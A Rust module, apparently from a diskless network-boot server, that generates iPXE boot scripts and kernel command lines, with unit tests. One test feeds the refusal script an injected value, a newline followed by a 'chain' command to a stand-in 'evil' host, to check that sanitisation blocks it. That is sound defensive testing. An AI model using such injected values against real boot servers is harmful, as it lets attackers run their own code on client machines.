//! The iPXE script each client gets, and the kernel command line inside it.

use crate::config::ImageProtocol;
use crate::decision::BootSpec;
use crate::routes::{ImageFile, Route};
use diskless_dhcp::Mac;
use sha2::{Digest, Sha256};

/// The stored image version a client boots.
#[derive(Debug, Clone)]
pub struct ImageRef<'a> {
    pub name: &'a str,
    pub version: &'a str,
    pub squashfs_sha256: &'a str,
    /// Whether the version has a diskless.cpio to load after initrd.img; an image whose own
    /// initrd carries the boot script (`diskless initrd install`) has none.
    pub boot_cpio: bool,
    /// The image's dm-verity hash tree (the manifest's `verity`); None for an image built
    /// before it, which the seat checks by its sha256 alone.
    pub verity: Option<VerityRef<'a>>,
}

/// What the boot script needs to mount the image through dm-verity: the tree sits in the
/// image file right after its `data_blocks` 4 KiB blocks (sha256, format 1, 4 KiB blocks:
/// `diskless_image::verity`, the only layout the builder writes).
#[derive(Debug, Clone, Copy)]
pub struct VerityRef<'a> {
    pub root_hash: &'a str,
    pub salt: &'a str,
    pub data_blocks: u64,
}

/// Everything a script is made from.
#[derive(Debug, Clone)]
pub struct ScriptParams<'a> {
    /// `10.0.0.1` or `10.0.0.1:8080`: how clients reach our HTTP server.
    pub http_authority: &'a str,
    /// How clients reach our TFTP server, when the image goes over TFTP.
    pub tftp_authority: &'a str,
    pub protocol: ImageProtocol,
    pub mac: Mac,
    pub boot: &'a BootSpec,
    pub image: ImageRef<'a>,
    /// This boot's report token, sent back with each stage report (in its URL).
    pub report_token: &'a str,
    /// `[multicast]` is on: the client joins the version's session before fetching by
    /// HTTP (`diskless.multicast=JOIN_URL`).
    pub multicast: bool,
}

/// A machine-id that is stable across a client's reboots and unique per client: derived from
/// its MAC, 128 bits in systemd's format (32 lowercase hex digits).
pub fn machine_id(mac: Mac) -> String {
    let digest = Sha256::digest(format!("diskless machine-id {mac}").as_bytes());
    digest[..16].iter().map(|b| format!("{b:02x}")).collect()
}

impl ImageRef<'_> {
    /// The route of one of its files.
    pub fn route(&self, file: ImageFile) -> Route {
        Route::ImageFile {
            image: self.name.to_string(),
            version: self.version.to_string(),
            file,
        }
    }
}

/// Where a client fetches `file`, in order: under each base URL of its boot spec's
/// `image_urls`, then `own` (the file on this server), unless the list names this server,
/// which then keeps its place.
pub fn sources(p: &ScriptParams, file: ImageFile, own: String) -> Vec<String> {
    let route = p.image.route(file);
    let ours = |base: &str| {
        let base = base.trim_end_matches('/');
        let authority = p.http_authority;
        base == format!("http://{authority}")
            || (!authority.contains(':') && base == format!("http://{authority}:80"))
    };
    let mut urls: Vec<String> = p
        .boot
        .image_urls
        .iter()
        .map(|base| {
            if ours(base) {
                own.clone()
            } else {
                route.url_at(base)
            }
        })
        .collect();
    if !urls.contains(&own) {
        urls.push(own);
    }
    urls
}

/// `panic=` on every command line: the seconds a failed boot waits before it reboots. A boot
/// that fails in the initramfs ends in initramfs-tools' `panic`, which without `panic=` opens
/// a root shell on the console, unauthenticated (docs/SECURITY.md); with it the machine shows
/// the failure this long (time to read the `Failure:` line, or to photograph it) and reboots to
/// try again, which is what a transient failure (a server restarting) needs. The kernel's own
/// panics reboot after it too. It goes before the site's `cmdline`, so a `panic=` there wins
/// (the last one counts, for the kernel and for initramfs-tools alike).
pub const PANIC_REBOOT_SECONDS: u32 = 30;

pub fn kernel_cmdline(p: &ScriptParams) -> String {
    let squashfs = p.image.route(ImageFile::Squashfs);
    let own = match p.protocol {
        ImageProtocol::Http => squashfs.url(p.http_authority),
        ImageProtocol::Tftp => squashfs.tftp_url(p.tftp_authority),
    };
    // The boot script hands the list to the fetch helper, which tries each in turn and
    // resumes an interrupted download from the next one.
    let image_url = sources(p, ImageFile::Squashfs, own).join(",");
    // UEFI iPXE (Debian's older builds) hands initrds to the kernel's EFI stub by name.
    let mut words = vec![format!("initrd={}", ImageFile::Initrd)];
    if p.image.boot_cpio {
        words.push(format!("initrd={}", ImageFile::BootCpio));
    }
    words.extend([
        "boot=diskless".to_string(),
        format!("diskless.image={image_url}"),
        // Kept beside the root hash: a seat whose boot script predates dm-verity (an image
        // whose own initrd carries an older script) still checks the image by it.
        format!("diskless.sha256={}", p.image.squashfs_sha256),
        format!("diskless.size={}", p.boot.size),
        format!("diskless.fetch={}", p.boot.fetch),
        format!(
            "diskless.report={}",
            Route::report_url(p.mac, p.http_authority, p.report_token)
        ),
        format!("systemd.machine_id={}", machine_id(p.mac)),
        // initramfs-tools configures the NIC the client booted from, not the first one found.
        format!("BOOTIF=01-{}", p.mac.hyphenated()),
        format!("panic={PANIC_REBOOT_SECONDS}"),
    ]);
    if p.multicast && p.protocol == ImageProtocol::Http {
        let join = Route::MulticastJoin {
            image: p.image.name.to_string(),
            version: p.image.version.to_string(),
        };
        words.push(format!("diskless.multicast={}", join.url(p.http_authority)));
    }
    if let Some(v) = p.image.verity {
        words.extend([
            format!("diskless.roothash={}", v.root_hash),
            format!("diskless.verity={}:{}", v.data_blocks, v.salt),
        ]);
    }
    if !p.boot.cmdline.is_empty() {
        words.push(p.boot.cmdline.clone());
    }
    words.join(" ")
}

pub fn ipxe_script(p: &ScriptParams) -> String {
    // One command per source, each tried when the one before failed: `a || b || c`.
    let fetch = |file: ImageFile, command: &dyn Fn(&str) -> String| {
        let own = p.image.route(file).url(p.http_authority);
        let tries: Vec<String> = sources(p, file, own).iter().map(|u| command(u)).collect();
        tries.join(" || ")
    };
    let cmdline = kernel_cmdline(p);
    let kernel = fetch(ImageFile::Kernel, &|url| format!("kernel {url} {cmdline}"));
    let initrd = |file: ImageFile| fetch(file, &|url| format!("initrd --name {file} {url}"));
    let cpio = if p.image.boot_cpio {
        format!("{}\n", initrd(ImageFile::BootCpio))
    } else {
        String::new()
    };
    format!(
        "#!ipxe\n\
         # diskless: {mac} boots image {name} version {version}\n\
         echo diskless: loading {name} {version}\n\
         {kernel}\n\
         {initrd}\n\
         {cpio}\
         boot\n",
        mac = p.mac,
        name = p.image.name,
        version = p.image.version,
        initrd = initrd(ImageFile::Initrd),
    )
}

/// The script for a client we do not boot: it says why and exits to the next boot device.
pub fn refusal_script(mac: Mac, reason: &str) -> String {
    let reason = reason.replace(['\n', '\r', '$'], " ");
    format!("#!ipxe\necho diskless: not booting {mac}: {reason}\nsleep 5\nexit\n")
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) fn boot() -> BootSpec {
        BootSpec {
            loader: crate::Loader::Ipxe,
            image: Some("lab".into()),
            hostname: None,
            size: "3G".into(),
            fetch: crate::config::FetchMode::Lazy,
            cmdline: "quiet".into(),
            image_urls: Vec::new(),
        }
    }

    pub(crate) fn params<'a>(boot: &'a BootSpec, protocol: ImageProtocol) -> ScriptParams<'a> {
        ScriptParams {
            http_authority: "10.0.0.1:8080",
            tftp_authority: "10.0.0.1",
            protocol,
            mac: "52:54:00:12:34:56".parse().unwrap(),
            boot,
            image: ImageRef {
                name: "lab",
                version: "20261125-120000-abcd1234",
                squashfs_sha256: "ab12",
                boot_cpio: true,
                verity: None,
            },
            report_token: "0123456789abcdef.42",
            multicast: false,
        }
    }

    #[test]
    fn script_loads_kernel_both_initrds_and_boots() {
        let b = boot();
        let script = ipxe_script(&params(&b, ImageProtocol::Http));
        let lines: Vec<&str> = script.lines().collect();
        assert_eq!(lines[0], "#!ipxe");
        assert!(lines[3].starts_with(
            "kernel http://10.0.0.1:8080/images/lab/20261125-120000-abcd1234/vmlinuz "
        ));
        assert_eq!(lines[4], "initrd --name initrd.img http://10.0.0.1:8080/images/lab/20261125-120000-abcd1234/initrd.img");
        assert_eq!(lines[5], "initrd --name diskless.cpio http://10.0.0.1:8080/images/lab/20261125-120000-abcd1234/diskless.cpio");
        assert_eq!(lines[6], "boot");
    }

    #[test]
    fn an_initrd_with_the_boot_script_is_loaded_alone() {
        let b = boot();
        let mut p = params(&b, ImageProtocol::Http);
        p.image.boot_cpio = false;
        let script = ipxe_script(&p);
        assert!(!script.contains("diskless.cpio"), "{script}");
        let lines: Vec<&str> = script.lines().collect();
        assert!(
            lines[4].starts_with("initrd --name initrd.img "),
            "{script}"
        );
        assert_eq!(lines[5], "boot");
        let cmdline = kernel_cmdline(&p);
        assert!(
            cmdline.starts_with("initrd=initrd.img boot=diskless "),
            "{cmdline}"
        );
    }

    #[test]
    fn cmdline_carries_image_digest_and_identity() {
        let b = boot();
        let cmdline = kernel_cmdline(&params(&b, ImageProtocol::Http));
        for word in [
            "boot=diskless",
            "diskless.image=http://10.0.0.1:8080/images/lab/20261125-120000-abcd1234/root.squashfs",
            "diskless.sha256=ab12",
            "diskless.size=3G",
            "diskless.fetch=lazy",
            "diskless.report=http://10.0.0.1:8080/api/report/52-54-00-12-34-56?token=0123456789abcdef.42",
            "BOOTIF=01-52-54-00-12-34-56",
            "panic=30",
            "quiet",
        ] {
            assert!(
                cmdline.split(' ').any(|w| w == word),
                "{word} missing from {cmdline}"
            );
        }
        let tftp = kernel_cmdline(&params(&b, ImageProtocol::Tftp));
        assert!(
            tftp.contains("diskless.image=tftp://10.0.0.1/images/lab/"),
            "{tftp}"
        );
    }

    #[test]
    fn an_image_with_a_hash_tree_passes_its_root_hash() {
        let b = boot();
        let mut p = params(&b, ImageProtocol::Http);
        assert!(!kernel_cmdline(&p).contains("diskless.roothash="));
        let (root, salt) = ("12".repeat(32), "34".repeat(32));
        p.image.verity = Some(VerityRef {
            root_hash: &root,
            salt: &salt,
            data_blocks: 40960,
        });
        let cmdline = kernel_cmdline(&p);
        let words: Vec<&str> = cmdline.split(' ').collect();
        for word in [
            format!("diskless.roothash={root}"),
            format!("diskless.verity=40960:{salt}"),
            "diskless.sha256=ab12".to_string(),
        ] {
            assert!(words.contains(&word.as_str()), "{word} missing: {cmdline}");
        }
        // The GRUB config says the same.
        let cfg = crate::grub::client_config(&p);
        assert!(cfg.contains(&format!("diskless.roothash={root}")), "{cfg}");
    }

    #[test]
    fn a_failed_boot_reboots_unless_the_site_says_otherwise() {
        let mut b = boot();
        let script = ipxe_script(&params(&b, ImageProtocol::Http));
        let kernel = script.lines().find(|l| l.starts_with("kernel ")).unwrap();
        assert!(kernel.split(' ').any(|w| w == "panic=30"), "{script}");
        // The site's own panic= comes after ours: the last one is the one that counts.
        b.cmdline = "quiet panic=5".into();
        let cmdline = kernel_cmdline(&params(&b, ImageProtocol::Http));
        let panics: Vec<&str> = cmdline
            .split(' ')
            .filter(|w| w.starts_with("panic="))
            .collect();
        assert_eq!(panics, ["panic=30", "panic=5"], "{cmdline}");
    }

    #[test]
    fn image_urls_come_first_and_this_server_last() {
        let mut b = boot();
        b.image_urls = vec![
            "http://cache-room1/diskless/".into(),
            "http://origin.example:8080".into(),
        ];
        let p = params(&b, ImageProtocol::Http);
        let v = "images/lab/20261125-120000-abcd1234";
        let script = ipxe_script(&p);
        let lines: Vec<&str> = script.lines().collect();
        let kernel: Vec<&str> = lines[3].split(" || ").collect();
        assert_eq!(kernel.len(), 3, "{script}");
        let cmdline = kernel_cmdline(&p);
        for (i, base) in [
            "http://cache-room1/diskless",
            "http://origin.example:8080",
            "http://10.0.0.1:8080",
        ]
        .iter()
        .enumerate()
        {
            assert_eq!(kernel[i], format!("kernel {base}/{v}/vmlinuz {cmdline}"));
        }
        assert_eq!(
            lines[4],
            format!(
                "initrd --name initrd.img http://cache-room1/diskless/{v}/initrd.img || \
                 initrd --name initrd.img http://origin.example:8080/{v}/initrd.img || \
                 initrd --name initrd.img http://10.0.0.1:8080/{v}/initrd.img"
            )
        );
        assert!(lines[5].starts_with(&format!(
            "initrd --name diskless.cpio http://cache-room1/diskless/{v}/diskless.cpio || "
        )));
        assert_eq!(lines[6], "boot");
        let image = format!(
            "diskless.image=http://cache-room1/diskless/{v}/root.squashfs,\
             http://origin.example:8080/{v}/root.squashfs,\
             http://10.0.0.1:8080/{v}/root.squashfs"
        );
        assert!(cmdline.split(' ').any(|w| w == image), "{cmdline}");
        // The image over TFTP: the caches are HTTP, this server last over TFTP.
        let tftp = kernel_cmdline(&params(&b, ImageProtocol::Tftp));
        assert!(
            tftp.contains(&format!(
                "http://origin.example:8080/{v}/root.squashfs,tftp://10.0.0.1/{v}/root.squashfs "
            )),
            "{tftp}"
        );
    }

    #[test]
    fn multicast_on_names_the_versions_join_url_for_http_only() {
        let b = boot();
        let off = kernel_cmdline(&params(&b, ImageProtocol::Http));
        assert!(!off.contains("diskless.multicast="), "{off}");
        let on = ScriptParams {
            multicast: true,
            ..params(&b, ImageProtocol::Http)
        };
        let word = "diskless.multicast=http://10.0.0.1:8080/api/multicast/lab/20261125-120000-abcd1234/join";
        assert!(
            kernel_cmdline(&on).split(' ').any(|w| w == word),
            "{}",
            kernel_cmdline(&on)
        );
        let tftp = ScriptParams {
            multicast: true,
            ..params(&b, ImageProtocol::Tftp)
        };
        assert!(!kernel_cmdline(&tftp).contains("diskless.multicast="));
    }

    #[test]
    fn a_list_naming_this_server_keeps_its_order() {
        let mut b = boot();
        b.image_urls = vec!["http://10.0.0.1:8080/".into(), "http://10.0.0.2".into()];
        let p = params(&b, ImageProtocol::Http);
        let v = "images/lab/20261125-120000-abcd1234";
        assert_eq!(
            sources(
                &p,
                ImageFile::Kernel,
                format!("http://10.0.0.1:8080/{v}/vmlinuz")
            ),
            [
                format!("http://10.0.0.1:8080/{v}/vmlinuz"),
                format!("http://10.0.0.2/{v}/vmlinuz")
            ]
        );
        // Port 80 named or not is the same server.
        b.image_urls = vec!["http://10.0.0.2".into(), "http://10.0.0.1:80".into()];
        let p = ScriptParams {
            http_authority: "10.0.0.1",
            ..params(&b, ImageProtocol::Http)
        };
        assert_eq!(
            sources(
                &p,
                ImageFile::Kernel,
                format!("http://10.0.0.1/{v}/vmlinuz")
            ),
            [
                format!("http://10.0.0.2/{v}/vmlinuz"),
                format!("http://10.0.0.1/{v}/vmlinuz")
            ]
        );
    }

    #[test]
    fn machine_ids_are_stable_unique_and_well_formed() {
        let a = machine_id("52:54:00:00:00:01".parse().unwrap());
        let b = machine_id("52:54:00:00:00:02".parse().unwrap());
        assert_eq!(a, machine_id("52:54:00:00:00:01".parse().unwrap()));
        assert_ne!(a, b);
        assert_eq!(a.len(), 32);
        assert!(a
            .chars()
            .all(|c| c.is_ascii_hexdigit() && !c.is_ascii_uppercase()));
    }

    #[test]
    fn refusal_cannot_inject_commands() {
        let s = refusal_script(
            "52:54:00:00:00:01".parse().unwrap(),
            "no image\nchain http://evil/${x}",
        );
        assert_eq!(s.lines().count(), 4, "{s}");
    }
}
